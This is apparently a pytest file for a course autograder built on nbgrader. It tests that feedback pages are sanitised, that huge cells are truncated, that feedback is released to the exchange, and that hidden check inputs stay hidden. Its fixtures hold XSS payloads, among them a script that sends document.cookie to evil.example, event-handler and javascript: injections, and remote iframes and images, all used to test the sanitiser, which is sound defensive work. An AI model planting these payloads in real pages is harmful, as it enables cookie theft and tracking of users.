"""The feedback page is sanitised: nothing on it runs or loads, and the course's rendering
(text, code, tables, embedded plots, in-page links) stays."""

from __future__ import annotations

import base64
import io
import re

import matplotlib
import nbformat
import pytest

from autograder.course import ROOT, Course, course_config
from autograder.notebook import graded_test_cells
from autograder.steps.feedback import (
    HIDDEN_FAILED,
    MAX_SHOWN_SOURCE,
    NOT_CONFIRMED,
    FeedbackExporter,
    hide_hidden_checks,
    sanitise_page,
)

matplotlib.use("Agg")

HOSTILE_MARKDOWN = """# Results <script>fetch("https://evil.example/" + document.cookie)</script>

<img src=x onerror="fetch('https://evil.example/onerror')">
<img src="https://evil.example/track.png" alt="remote">
![also remote](http://evil.example/md.png)
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<form action="https://evil.example/post"><input name="x"></form>
<p style="color: red; background-image: url(https://evil.example/bg.png)">styled</p>
<style>body { background: url(https://evil.example/css.png) }</style>
<link rel="stylesheet" href="https://evil.example/sheet.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<svg><image href="https://evil.example/svg.png"/></svg>
<a href="javascript:alert(1)">js link</a> <a href="https://example.org/docs">docs</a>
<a href="#ch02_softmax_test">to the test</a> <p onclick="alert(2)">click</p>
"""


def png_output() -> nbformat.NotebookNode:
    """A display_data output holding a real matplotlib PNG, as the inline backend stores it."""
    import matplotlib.pyplot as plt

    figure, axes = plt.subplots(figsize=(2, 2))
    axes.plot([0, 1], [1, 0])
    buffer = io.BytesIO()
    figure.savefig(buffer, format="png")
    plt.close(figure)
    return nbformat.v4.new_output("display_data", data={
        "image/png": base64.b64encode(buffer.getvalue()).decode(), "text/plain": "<Figure>"})


def hostile_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    code = nbformat.v4.new_code_cell("x = 1")
    code.outputs = [
        png_output(),
        nbformat.v4.new_output("display_data", data={
            "text/html": "<table><tr><td>cell</td></tr></table><script>alert(3)</script>"
                         "<img src='https://evil.example/out.png'>",
            "text/plain": "table"}),
        nbformat.v4.new_output("display_data", data={
            "application/javascript": "fetch('https://evil.example/js')", "text/plain": "js"}),
    ]
    nb.cells = [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN), code]
    return nb


def assert_inert(html: str) -> None:
    """Nothing that runs and nothing loaded from elsewhere. The head holds the template's own
    style sheets (whose CSS may mention ``javascript:`` in a selector); it has no script and
    no link either."""
    head, _, body = html.partition("</head>")
    assert "<script" not in head.lower() and "<link" not in head.lower()
    # The template's CSS names its fonts relative to the page; nothing points elsewhere.
    for url in re.findall(r"url\(\s*['\"]?([^)'\"]*)", head):
        assert url.startswith(("../", "data:image/")), url
    assert "url(" not in body
    lowered = body.lower()
    for needle in ("<script", "<iframe", "<object", "<embed", "<form", "<link", "<base",
                   "<meta http-equiv", "javascript:", "<svg", "<input"):
        assert needle not in lowered, needle
    assert not re.search(r"<[^>]*\son\w+\s*=", body), "an event handler survived"
    for match in re.finditer(r"""\s(?:src|href|data|action)\s*=\s*["']?([^"'\s>]+)""", body):
        url = match.group(1)
        assert url.startswith(("data:image/", "#")) or (
            match.group(0).lstrip().startswith("href") and url.startswith("https://example.org")
        ), match.group(0)


def test_sanitise_page_removes_what_runs_or_loads_and_keeps_the_rest():
    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>ch02</title>"
            "<style>.score { color: black }</style>"
            "<script src='https://cdn.example/mathjax.js'></script></head><body>"
            + HOSTILE_MARKDOWN + "</body></html>")
    html = sanitise_page(page)
    assert_inert(html)
    assert "<title>ch02</title>" in html and ".score { color: black }" in html
    assert '<p style="color:red">styled</p>' in html
    assert 'href="https://example.org/docs"' in html and 'href="#ch02_softmax_test"' in html
    assert "Results" in html and "click" in html


def test_exported_page_keeps_plots_tables_and_code_but_nothing_hostile():
    exporter = FeedbackExporter(template_name="classic")
    html, _ = exporter.from_notebook_node(hostile_notebook())
    assert_inert(html)
    assert re.search(r'<img[^>]+src="data:image/png;base64,[A-Za-z0-9+/=]{100,}"', html)
    assert "<td>cell</td>" in html and "x" in html and 'class="highlight' in html


def test_nbgraders_feedback_uses_the_sanitising_exporter(tmp_path):
    config = course_config(tmp_path, tmp_path / "course")
    assert config.GenerateFeedback.exporter_class == (
        "autograder.steps.feedback.FeedbackExporter")
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory

    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    assert converter.exporter_class is FeedbackExporter


def test_the_page_does_not_depend_on_how_the_kernel_split_its_prints():
    """The kernel may send two prints as one stream message or as two, as timing decides."""
    pages = []
    for texts in (["visible checks: all passed.\n", "hidden checks: all passed.\n"],
                  ["visible checks: all passed.\nhidden checks: all passed.\n"]):
        nb = nbformat.v4.new_notebook()
        cell = nbformat.v4.new_code_cell("check()", id="c1")
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=t) for t in texts]
        nb.cells = [cell]
        pages.append(FeedbackExporter(template_name="classic").from_notebook_node(nb)[0])
    assert pages[0] == pages[1] and "hidden checks: all passed." in pages[0]


def test_a_huge_cell_is_shown_cut_with_a_note_and_the_notebook_keeps_it_whole():
    """A pasted cell of 800,000 characters once held a class's feedback for minutes: the page
    shows its first lines and says how much it leaves out; the graded notebook is unchanged."""
    def notebook(code: str, text: str) -> nbformat.NotebookNode:
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(code, id="c1"),
                    nbformat.v4.new_markdown_cell(text, id="c2"),
                    nbformat.v4.new_code_cell("y = 2", id="c3")]
        return nb

    huge, words = "x = 1\n" * 140_000, "*word* " * 150_000
    nb = notebook(huge, words)
    exporter = FeedbackExporter(template_name="classic")
    html, _ = exporter.from_notebook_node(nb)
    assert nb.cells[0].source == huge
    assert html.count("x</span> <span") < MAX_SHOWN_SOURCE // 6 + 10
    assert f"of the cell&#39;s {len(huge):,} characters" in html or (
        f"of the cell's {len(huge):,} characters" in html)
    assert "1,050,000 characters" in html and "y</span>" in html
    # No bigger than the page of cells at the limit, but for the two notes.
    at_limit, _ = exporter.from_notebook_node(notebook(huge[:MAX_SHOWN_SOURCE],
                                                       words[:MAX_SHOWN_SOURCE]))
    assert len(html) < len(at_limit) + 1_000, (len(html), len(at_limit))


@pytest.mark.parametrize("fragment", ["", "plain text", "<p>unclosed", "</head>twice</head>"])
def test_odd_pages_still_give_a_whole_document(fragment):
    html = sanitise_page(fragment)
    assert html.startswith("<!DOCTYPE html>") and html.rstrip().endswith("</html>")
    assert_inert(html)


def test_feedback_is_released_to_the_exchange(tmp_path):
    """`python -m autograder feedback CH --exchange DIR` and the Formgrader's Release Feedback
    (nbgrader's release_feedback, routed to the same function) hand each page to the learner
    who submitted through the exchange, name who got one, and fail, saying why, when there is
    nothing to release instead of reporting success."""
    from nbgrader.apps.api import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.utils import notebook_hash

    from autograder.course import COURSE_ID, SECRET_FILE, TIMESTAMP_FILE
    from autograder.steps.exchange import release_feedback

    chapter = "ch02_attention"
    course = Course.of(tmp_path, tmp_path / "course")
    for student, secret in (("alice", "a" * 128), ("zed", None)):  # zed came from a zip
        folder = course.step_dir("feedback", student, chapter)
        folder.mkdir(parents=True)
        (folder / f"{chapter}.html").write_text(f"<p>{student}'s feedback</p>")
        (folder / TIMESTAMP_FILE).write_text("2026-11-20 10:00:00.000000 UTC")
        if secret:
            (folder / SECRET_FILE).write_text(secret)
    exchange = tmp_path / "exchange"
    exchange.mkdir()
    released = release_feedback(course, [chapter], exchange)
    assert released == [("alice", chapter)]
    name = notebook_hash(secret="a" * 128, notebook_id=chapter)
    page = exchange / COURSE_ID / "feedback" / f"{name}.html"
    assert page.read_text() == "<p>alice's feedback</p>"

    config = course_config(tmp_path, course.folder)
    config.Exchange.root = str(exchange)
    api = NbGraderAPI(coursedir=CourseDirectory(config=config), config=config)
    result = api.release_feedback(chapter)
    assert result["success"], result
    assert f"released the feedback of 1 submission(s) of {chapter}: alice" in result["log"]
    result = api.release_feedback(chapter, "zed")
    assert not result["success"]
    assert "did not come through the exchange" in result["log"], result["log"]
    result = api.release_feedback("ch05_layer_norm_ffn")
    assert not result["success"]
    assert "no feedback page of ch05_layer_norm_ffn has been generated yet" in result["log"]


def _graded(outputs: list[list[nbformat.NotebookNode]]) -> nbformat.NotebookNode:
    """Chapter 2's source notebook whose graded cells have ``outputs``, in order."""
    nb = nbformat.read(Course.of(ROOT).source_notebook("ch02_attention"), as_version=4)
    for cell, given in zip(graded_test_cells(nb), outputs, strict=False):
        cell.outputs = given
    return nb


def _stream(text: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("stream", name="stdout", text=text)


def _error(name: str, value: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("error", ename=name, evalue=value,
                                  traceback=[f"{name}: {value}"])


def test_feedback_gives_no_hidden_input_away_and_no_pass_sits_above_a_failure():
    passes = _stream("ch02.softmax (visible checks): all passed.\n"
                     "ch02.softmax (hidden checks): all passed.\n")
    nb = _graded([
        [passes, _error("VerificationFailed", "the notebook reported a pass, but ...: "
                        "ch02.softmax (hidden checks) failed: softmax(x) with x of shape "
                        "(2, 3, 3, 7) gave ...")],
        [_stream("ch02.scaled_dot_product_attention (visible checks): all passed.\n"),
         _error("CheckFailed", "ch02.scaled_dot_product_attention (hidden checks) failed: "
                "with q of shape (2, 3, 8, 7) ...")],
        [_error("CheckFailed", "ch02.causal_mask (visible checks) failed: causal_mask(3) gave")],
        [_stream("ch02.padding_mask (visible checks): all passed.\nNote: float64 is fine.\n")],
    ])
    hide_hidden_checks(nb)
    first, second, third, fourth = (c.outputs for c in graded_test_cells(nb)[:4])
    assert [o.output_type for o in first] == ["error"]  # no "all passed" above the 0
    assert first[0].evalue == f"ch02.softmax: {NOT_CONFIRMED}"
    assert second[-1].evalue == f"ch02.scaled_dot_product_attention: {HIDDEN_FAILED}"
    text = nbformat.writes(nb)
    assert "(2, 3, 3, 7)" not in text and "(2, 3, 8, 7)" not in text and "all passed" in text
    # What the learner sees anyway stays: a visible failure's diagnosis, a passing cell's lines.
    assert third[0].evalue.endswith("causal_mask(3) gave")
    assert fourth[0].text == ("ch02.padding_mask (visible checks): all passed.\n"
                              "Note: float64 is fine.\n")
